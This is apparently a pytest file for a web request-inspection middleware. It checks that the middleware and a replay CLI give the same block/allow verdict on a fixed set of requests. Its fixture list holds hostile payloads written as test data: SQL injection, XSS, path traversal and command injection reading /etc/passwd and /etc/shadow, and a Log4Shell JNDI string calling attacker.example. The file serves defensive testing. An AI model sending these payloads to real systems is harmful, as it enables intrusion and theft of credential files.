"""The middleware and ``python -m pynomaly_security replay`` reach the same verdict
on the same request (issue 3): both build RequestParts the same way and share
one Inspector."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.requests import Request
from starlette.responses import JSONResponse
from starlette.routing import Route

from pynomaly_security.detection import Inspector
from pynomaly_security.detection.records import request_parts_from_record
from pynomaly_security.middleware.inspection import InputInspectionMiddleware

UA = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"}

# The project's own requests (not copied from the corpora): attacks and look-alikes.
RECORDS: list[dict[str, Any]] = [
    {"id": "sqli-query", "method": "GET", "uri": "/search?q=1%27%20OR%201%3D1--", "body": ""},
    {
        "id": "sqli-union-form",
        "method": "POST",
        "uri": "/items",
        "headers": {"Content-Type": "application/x-www-form-urlencoded"},
        "body": "name=x%27+UNION+SELECT+password+FROM+users--",
    },
    {
        "id": "xss-json",
        "method": "POST",
        "uri": "/items",
        "headers": {"Content-Type": "application/json"},
        "body": json.dumps({"user": {"bio": "<img src=x onerror=alert(document.domain)>"}}),
    },
    {
        "id": "xss-no-content-type",
        "method": "POST",
        "uri": "/items",
        "headers": {},
        "body": json.dumps({"comment": "<svg/onload=alert(1)>"}),
    },
    {
        "id": "traversal-query",
        "method": "GET",
        "uri": "/files?name=..%2F..%2F..%2Fetc%2Fpasswd",
        "body": "",
    },
    {
        "id": "cmdi-json",
        "method": "POST",
        "uri": "/ping",
        "headers": {"Content-Type": "application/json"},
        "body": json.dumps({"host": "127.0.0.1; cat /etc/shadow"}),
    },
    {
        "id": "log4shell-header",
        "method": "GET",
        "uri": "/",
        "headers": {"X-Api-Version": "${jndi:ldap://attacker.example/a}"},
        "body": "",
    },
    {
        "id": "benign-search",
        "method": "GET",
        "uri": "/search?q=O%27Reilly+select+union+jacks",
        "body": "",
    },
    {
        "id": "benign-json",
        "method": "POST",
        "uri": "/items",
        "headers": {"Content-Type": "application/json"},
        "body": json.dumps(
            {"name": "Desk lamp", "description": "Brass; 40 cm & dimmable", "price": 39.9}
        ),
    },
    {
        "id": "benign-form",
        "method": "POST",
        "uri": "/items",
        "headers": {"Content-Type": "application/x-www-form-urlencoded"},
        "body": "name=Caf%C3%A9+table&notes=Drop+by+at+5+-+bring+the+%22good%22+chairs",
    },
    {"id": "benign-path", "method": "GET", "uri": "/docs/getting-started/install", "body": ""},
]


def _app() -> Starlette:
    async def anything(request: Request) -> JSONResponse:
        await request.body()
        return JSONResponse({"ok": True})

    return Starlette(
        routes=[Route("/{path:path}", anything, methods=["GET", "POST"])],
        middleware=[Middleware(InputInspectionMiddleware, inspector=Inspector())],  # type: ignore[arg-type]
    )


async def _middleware_verdict(client: httpx.AsyncClient, record: dict[str, Any]) -> str:
    headers = {**UA, **record.get("headers", {})}
    content = record["body"].encode()
    request = client.build_request(
        record["method"], record["uri"], headers=headers, content=content
    )
    if "Content-Type" not in record.get("headers", {}):
        request.headers.pop("content-type", None)
    response = await client.send(request)
    # Either answer: the caller compares it with the replay tool's verdict for the record.
    assert response.status_code in (200, 403), (record["id"], response.status_code)
    return "block" if response.status_code == 403 else "allow"


RECORDS_SENT = [{**r, "headers": {**UA, **r.get("headers", {})}} for r in RECORDS]


@pytest.fixture
def replayed(tmp_path: Path) -> dict[str, str]:
    """The replay CLI's verdicts, run as an operator would on a JSON Lines file."""
    source = tmp_path / "requests.jsonl"
    source.write_text("".join(json.dumps(r) + "\n" for r in RECORDS_SENT))
    out = subprocess.run(
        [sys.executable, "-m", "pynomaly_security", "replay", str(source)],
        # The middleware here runs without the SQL sink: the edge blocks SQL injection.
        env={**os.environ, "PYNOMALY_SECURITY__SQLI_EDGE_MODE": "block"},
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    return {v["id"]: v["verdict"] for v in map(json.loads, out.stdout.splitlines())}


@pytest.mark.anyio
async def test_middleware_and_replay_agree(replayed: dict[str, str]) -> None:
    """Every request gets the same block/allow from the middleware and the replay CLI."""
    transport = httpx.ASGITransport(app=_app())
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        served = {r["id"]: await _middleware_verdict(client, r) for r in RECORDS}

    direct = {
        r["id"]: "block" if Inspector().inspect(request_parts_from_record(r)).blocked else "allow"
        for r in RECORDS_SENT
    }
    assert served == replayed == direct
    # And the table means something: attacks are blocked, look-alikes pass.
    assert {k for k, v in served.items() if v == "block"} == {
        r["id"] for r in RECORDS if not r["id"].startswith("benign")
    }
